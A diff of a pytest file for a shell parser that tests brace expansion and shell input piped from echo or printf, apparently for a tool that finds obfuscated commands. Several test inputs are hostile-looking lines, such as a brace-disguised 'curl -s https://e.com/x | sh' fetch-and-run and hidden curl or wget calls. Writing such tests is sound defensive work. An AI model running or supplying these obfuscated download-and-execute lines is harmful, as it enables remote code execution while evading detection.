@@ -187,16 +187,81 @@ def test_what_a_syntax_error_leaves_is_read(text: str, expected: str) -> None:
     assert script.broken
 
 
+@pytest.mark.parametrize(
+    ("name", "text", "expected"),
+    [
+        pytest.param("bash", "a {b,c} d", "a b c d", id="a list of braces is words"),
+        pytest.param("dash", "a {b,c} d", "a {b,c} d", id="in dash it is one word"),
+        pytest.param("sh", "{curl,-s,https://e.com/x}|sh; a", "curl -s https://e.com/x | sh ; a", id="a command's name"),
+        pytest.param("sh", "x && {curl,-s,$URL,'b'} >y", "x && curl -s «$URL» b >y", id="after a joint, with a variable"),
+        pytest.param("sh", "$({curl,x}) `{wget,y}`", "«$({curl,x})» «`{wget,y}`» substitution[curl x] substitution[wget y]", id="in substitutions"),
+        pytest.param("bash", "sudo {curl,-s}", "sudo curl -s wrapped[curl -s]", id="what a wrapper runs"),
+        pytest.param("bash", '{"a,b",c}', "a b c", id="a comma in quotes counts too"),
+        pytest.param("bash", "a \"{b,c}\" '{d,e}'", "a {b,c} {d,e}", id="in quotes it is text"),
+        pytest.param("bash", "{a,,b} {,}", "a b", id="empty words are none"),
+        pytest.param("bash", "{ a,b; }; f() { c; }", "a,b ; c", id="a group is none"),
+    ],
+)  # fmt: skip
+def test_a_list_of_braces_is_words(name: str, text: str, expected: str) -> None:
+    script = shell.parse(text, shell=name)
+    assert sketch(script) == expected
+    assert not script.broken
+
+
+def test_each_word_of_a_list_of_braces_is_at_the_place_of_the_list() -> None:
+    words = shell.parse("{curl,-s}").pipelines[0].commands[0].words
+    assert [word.place for word in words] == [Place(0, 9), Place(0, 9)]
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "expected"),
+    [
+        pytest.param("sh", r"echo 'a\nb\tc' | sh", "a NL b c", id="echo of dash"),
+        pytest.param("dash", r"echo 'a\\\nb' | dash", "ab", id="an escaped backslash before a line feed"),
+        pytest.param("bash", r"echo 'a\nb' | sh", "anb", id="echo of bash reads no escapes"),
+        pytest.param("bash", r"echo -ne 'a\nb' | sh", "a NL b", id="unless it should"),
+        pytest.param("sh", "echo 'a; b' c | sudo -E bash -s x", "a ; b c", id="sudo and several words"),
+        pytest.param("sh", "echo '' a | sh", "a", id="an empty word"),
+        pytest.param("sh", r"printf 'a\nb' | sh", "a NL b", id="printf"),
+        pytest.param("sh", r"printf '%s\n' 'a b' c | sh", "a b NL c", id="lines of printf"),
+        pytest.param("sh", r"printf '%s' 'a\nb' | sh", "anb", id="printf leaves %s as it is"),
+        pytest.param("sh", r"printf '%b' 'a\nb' | sh", "a NL b", id="printf reads the escapes of %b"),
+        pytest.param("sh", "cat <<E | env A=1 sh\na\nb\nE", "a NL b", id="a here-document through a wrapper"),
+        pytest.param("sh", "printf 'a %s' b | sh", None, id="another format"),
+        pytest.param("sh", "echo a >x | sh", None, id="what goes elsewhere"),
+        pytest.param("sh", "echo a | sh <x", None, id="another input"),
+        pytest.param("sh", "echo a | sh x", None, id="a script of its own"),
+        pytest.param("sh", "echo a | xargs sh", None, id="words for xargs"),
+        pytest.param("sh", "echo a | busybox sh", "a", id="BusyBox"),
+        pytest.param("sh", "echo a | python", None, id="another program"),
+        pytest.param("sh", "echo | sh; printf | sh; cat | sh", None, id="nothing is printed"),
+    ],
+)
+def test_a_shell_runs_what_is_piped_into_it(name: str, text: str, expected: str | None) -> None:
+    script = shell.parse(text, shell=name)
+    scripts = [nested for command in script.commands() for nested in command.nested if nested.kind == "argument"]
+    assert [sketch(nested.script) for nested in scripts] == ([] if expected is None else [expected])
+
+
+@pytest.mark.parametrize(
+    "text", [r"echo 'x\ncurl y' | sh", r"echo x '; curl' | sh", r"printf '%s\n' x curl | sh", "printf 'x;curl' | sh"]
+)
+def test_a_piped_command_is_where_it_is_printed(text: str) -> None:
+    script = shell.parse(text, 10)
+    curl = next(command for command in script.commands() if command.name == "curl")
+    assert curl.words[0].place == Place(10 + text.index("curl"), 14 + text.index("curl"))
+
+
 @pytest.mark.parametrize(("name", "literal"), [("sh", True), ("dash", True), ("bash", False)])
 def test_braces_expand_only_in_bash(name: str, literal: bool) -> None:  # noqa: FBT001  a table's column
-    words = shell.parse("echo {a,b} x{1..3}", shell=name).pipelines[0].commands[0].words
+    words = shell.parse("echo y{a,b} x{1..3}", shell=name).pipelines[0].commands[0].words
     assert [word.literal for word in words] == [True, literal, literal]
-    assert words[1].text == "{a,b}"
+    assert words[1].text == "y{a,b}"
 
 
 @pytest.mark.parametrize(
     ("text", "literal"),
-    [("{1..3}", False), ("{a,b}", False), ("{a}", True), ("}a,b{", True), ("{ab..", True), ("a,b..", True)],
+    [("{1..3}", False), ("x{a,b}", False), ("{a}", True), ("}a,b{", True), ("{ab..", True), ("a,b..", True)],
 )
 def test_braces_expand_where_they_hold_a_list_or_a_range(text: str, literal: bool) -> None:  # noqa: FBT001  a table's column
     words = shell.parse(f"echo {text}", shell="bash").pipelines[0].commands[0].words  # noqa: S604  the shell that it is read for
